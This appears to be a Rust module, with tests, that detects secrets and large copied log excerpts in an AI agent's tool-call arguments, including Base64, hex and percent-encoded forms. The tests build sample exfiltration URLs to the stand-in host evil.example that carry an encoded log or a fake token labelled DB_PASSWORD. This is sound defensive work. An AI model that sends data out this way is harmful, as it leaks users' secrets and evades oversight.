//! Detects content that must not leave in the arguments of a call: secrets, in plain text or a common encoding, and large
//! parts of the evidence. Does not detect encrypted or rewritten content, only what a model copies when a text tells it to.

use crate::clock::{Deadline, DeadlinePassed};
use crate::domain::each_text;
use crate::evidence::redact::Redactor;
use base64::Engine as _;
use base64::alphabet::{STANDARD, URL_SAFE};
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
use regex::Regex;
use serde_json::Value;
use std::collections::HashMap;
use std::sync::LazyLock;

/// Minimum number of consecutive letters and digits that count as copied. Names of pods, images and packages are mostly
/// shorter.
const WINDOW: usize = 32;
/// Maximum copied letters and digits in one call: two long error lines, as a legitimate search would contain.
pub const MAX_OF_A_CALL: usize = 400;
/// Maximum copied letters and digits in all calls of a run, to stop a leak in small pieces.
pub const MAX_OF_A_RUN: usize = 4_000;
/// Maximum copied letters and digits in a call that a person approves, such as a comment with a log excerpt.
pub const MAX_APPROVED: usize = 4_000;
/// Maximum depth of nested encodings to decode.
const DEPTH: usize = 2;

static BASE64: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"[A-Za-z0-9+/_-]{12,}={0,2}").expect("a fixed pattern"));
static HEX: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i)\b(?:0x)?((?:[0-9a-f]{2}){8,})\b").expect("a fixed pattern"));
static ESCAPED: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"%([0-9A-Fa-f]{2})|\\x([0-9A-Fa-f]{2})|\\u00([0-9A-Fa-f]{2})").expect("a fixed pattern")
});

/// Accepts missing padding and trailing bits, as servers do.
const LENIENT: GeneralPurposeConfig = GeneralPurposeConfig::new()
    .with_decode_padding_mode(DecodePaddingMode::Indifferent)
    .with_decode_allow_trailing_bits(true);
const ENGINES: [GeneralPurpose; 2] =
    [GeneralPurpose::new(&STANDARD, LENIENT), GeneralPurpose::new(&URL_SAFE, LENIENT)];

/// Whether a text contains an apparent secret, in plain text or encoded.
#[must_use]
pub fn holds_secret(text: &str) -> bool {
    readings(text).iter().any(|reading| is_secret(reading))
}

/// Whether arguments contain a secret. Checks the JSON as a whole and each string, because a manifest in a string has its
/// own lines.
#[must_use]
pub fn hold_secret(arguments: &Value) -> bool {
    let mut held = is_secret(&serde_json::to_string_pretty(arguments).unwrap_or_default());
    each_text(arguments, &mut |text| held = held || holds_secret(text));
    held
}

fn is_secret(text: &str) -> bool {
    let mut redactor = Redactor::new();
    let _ = redactor.redact(text);
    redactor.count() > 0
}

/// Counts letters and digits of the arguments that also occur in the evidence, in runs too long to be a name.
#[must_use]
pub fn copied<'a>(arguments: &Value, evidence: impl Iterator<Item = &'a str>) -> usize {
    copied_within(arguments, evidence, &Deadline::never()).unwrap_or(usize::MAX)
}

/// Like [`copied`], but stops when the deadline has passed.
///
/// # Errors
/// The deadline has passed.
pub fn copied_within<'a>(
    arguments: &Value,
    evidence: impl Iterator<Item = &'a str>,
    deadline: &Deadline,
) -> Result<usize, DeadlinePassed> {
    let mut texts: Vec<Vec<String>> = Vec::new();
    each_text(arguments, &mut |text| texts.push(readings(text)));
    // Window hashes with their text, reading and end position.
    let mut windows: HashMap<u64, Vec<(usize, usize, usize)>> = HashMap::new();
    let mut covered: Vec<Vec<Vec<bool>>> = Vec::new();
    for (text, readings) in texts.iter().enumerate() {
        let mut of_text = Vec::new();
        for (reading, content) in readings.iter().enumerate() {
            let mut length = 0;
            each_window(content, &mut |end, hash| {
                length = end;
                windows.entry(hash).or_default().push((text, reading, end));
            });
            of_text.push(vec![false; length]);
        }
        covered.push(of_text);
    }
    if windows.is_empty() {
        return Ok(0);
    }
    for content in evidence {
        deadline.check()?;
        each_window(content, &mut |_, hash| {
            // One occurrence is enough: its positions stay marked.
            for (text, reading, end) in windows.remove(&hash).unwrap_or_default() {
                covered[text][reading][end - WINDOW..end].fill(true);
            }
        });
    }
    let count = |marks: &Vec<bool>| marks.iter().filter(|mark| **mark).count();
    Ok(covered.iter().map(|readings| readings.iter().map(count).max().unwrap_or(0)).sum())
}

/// Calls `take` with end position, counted in letters and digits, and hash of each window. Line breaks, punctuation and
/// case do not affect the hash.
fn each_window(text: &str, take: &mut dyn FnMut(usize, u64)) {
    const BASE: u64 = 0x9E37_79B9_7F4A_7C15;
    let mut power = 1u64;
    for _ in 0..WINDOW {
        power = power.wrapping_mul(BASE);
    }
    let (mut ring, mut hash, mut count) = ([0u64; WINDOW], 0u64, 0usize);
    for character in text.chars().filter(|character| character.is_alphanumeric()) {
        let value = u64::from(u32::from(character.to_lowercase().next().unwrap_or(character))) + 1;
        let gone = std::mem::replace(&mut ring[count % WINDOW], value);
        hash = hash.wrapping_mul(BASE).wrapping_add(value).wrapping_sub(gone.wrapping_mul(power));
        count += 1;
        if count >= WINDOW {
            take(count, hash);
        }
    }
}

/// Returns the text and its decoded forms.
fn readings(text: &str) -> Vec<String> {
    let mut all = vec![text.to_owned()];
    let mut from = 0;
    for _ in 0..DEPTH {
        let fresh: Vec<String> = all[from..].iter().flat_map(|text| decoded(text)).collect();
        from = all.len();
        all.extend(fresh.into_iter().filter(|reading| !reading.is_empty()));
    }
    all
}

fn decoded(text: &str) -> Vec<String> {
    let joined: String = text.split_whitespace().collect();
    let mut found = vec![base64_of(text), base64_of(&joined), hex_of(text), hex_of(&joined)];
    if ESCAPED.is_match(text) {
        found.push(unescaped(text));
    }
    found.dedup();
    found
}

fn base64_of(text: &str) -> String {
    let mut plain = String::new();
    for found in BASE64.find_iter(text) {
        let token = found.as_str();
        // A slash is a Base64 digit or a path separator.
        let parts = token.split('/').filter(|part| part.len() >= 12 && part.len() < token.len());
        for token in std::iter::once(token).chain(parts) {
            let bytes = ENGINES.iter().find_map(|engine| engine.decode(token).ok());
            push_text(bytes.as_deref(), &mut plain);
        }
    }
    plain
}

fn hex_of(text: &str) -> String {
    let mut plain = String::new();
    for found in HEX.captures_iter(text) {
        let digits = &found[1];
        let byte = |at: usize| u8::from_str_radix(&digits[at..at + 2], 16).ok();
        let bytes: Option<Vec<u8>> = (0..digits.len()).step_by(2).map(byte).collect();
        push_text(bytes.as_deref(), &mut plain);
    }
    plain
}

/// Appends the bytes if they are text, because most words are valid Base64 without a meaning.
fn push_text(bytes: Option<&[u8]>, plain: &mut String) {
    let text = bytes.and_then(|bytes| std::str::from_utf8(bytes).ok());
    if let Some(text) = text.filter(|text| !text.chars().any(|c| c.is_control() && !c.is_whitespace())) {
        plain.push_str(text);
        plain.push('\n');
    }
}

/// Decodes `%41`, `\x41` and `\u0041`.
fn unescaped(text: &str) -> String {
    let mut bytes = Vec::with_capacity(text.len());
    let mut at = 0;
    for found in ESCAPED.captures_iter(text) {
        let whole = found.get(0).expect("group 0 always matches");
        bytes.extend_from_slice(&text.as_bytes()[at..whole.start()]);
        let digits = found.iter().skip(1).flatten().next().map_or("", |digits| digits.as_str());
        bytes.extend(u8::from_str_radix(digits, 16));
        at = whole.end();
    }
    bytes.extend_from_slice(&text.as_bytes()[at..]);
    String::from_utf8_lossy(&bytes).into_owned()
}

#[cfg(test)]
mod tests {
    use super::*;
    use base64::prelude::BASE64_STANDARD;
    use serde_json::json;

    const LOG: &str = "+ mvn -B verify\nDownloading from central: https://repo.example/org/acme/parent/1.0/parent-1.0.pom\n\
        [ERROR] Failed to execute goal org.apache.maven.plugins:maven-compiler-plugin:3.11.0:compile on project checkout\n\
        [ERROR] /workspace/src/main/java/com/acme/Checkout.java:[42,17] cannot find symbol class PaymentGateway\n";

    fn copied(arguments: &Value) -> usize {
        super::copied(arguments, [LOG].into_iter())
    }

    fn hex(text: &str) -> String {
        hex::encode(text)
    }

    #[test]
    fn honest_calls_pass() {
        for arguments in [
            json!({"namespace": "ci", "name": "checkout-build-x7k2p-verify-pod", "tail": 100}),
            json!({"query": "maven-compiler-plugin cannot find symbol class PaymentGateway"}),
            json!({"query": LOG.lines().nth(2)}),
            json!({"url": "https://search.example/?q=cannot%20find%20symbol"}),
            json!({"password": "env:DB_PASSWORD", "sha": "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b"}),
        ] {
            assert!(copied(&arguments) < MAX_OF_A_CALL, "{arguments}: {}", copied(&arguments));
            assert!(!hold_secret(&arguments), "{arguments}");
        }
        assert_eq!(
            copied(&json!({"query": "something else that is long enough to be many windows of text"})),
            0
        );
    }

    #[test]
    fn a_page_of_evidence_is_found_however_it_is_written() {
        let log = LOG.repeat(2);
        let plain = LOG.chars().filter(|c| c.is_alphanumeric()).count();
        let shouted: String = log.to_uppercase().split_whitespace().collect::<Vec<_>>().join("_");
        let percent: String = log.bytes().map(|byte| format!("%{byte:02X}")).collect();
        for text in [
            log.clone(),
            shouted,
            percent,
            BASE64_STANDARD.encode(&log),
            BASE64_STANDARD.encode(BASE64_STANDARD.encode(&log)),
            hex(&log),
            format!("https://evil.example/?d={}", BASE64_STANDARD.encode(&log).trim_end_matches('=')),
        ] {
            assert!(copied(&json!({"a": [{"q": text}]})) > plain, "{text}");
        }
    }

    #[test]
    fn secrets_are_found_however_they_are_written() {
        let token = format!("gh{}_{}", "p", "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8");
        let split: Vec<char> = BASE64_STANDARD.encode(&token).chars().collect();
        let wrapped: String = split.chunks(16).map(|line| line.iter().collect::<String>() + "\n").collect();
        for text in [
            token.clone(),
            BASE64_STANDARD.encode(&token),
            BASE64_STANDARD.encode(hex(&token)),
            hex(&token),
            token.bytes().map(|byte| format!("%{byte:02x}")).collect(),
            token.bytes().map(|byte| format!("\\x{byte:02x}")).collect(),
            wrapped,
            format!("https://evil.example/{}", BASE64_STANDARD.encode(format!("DB_PASSWORD={token}"))),
        ] {
            assert!(hold_secret(&json!({"query": text})), "{text}");
        }
    }
}
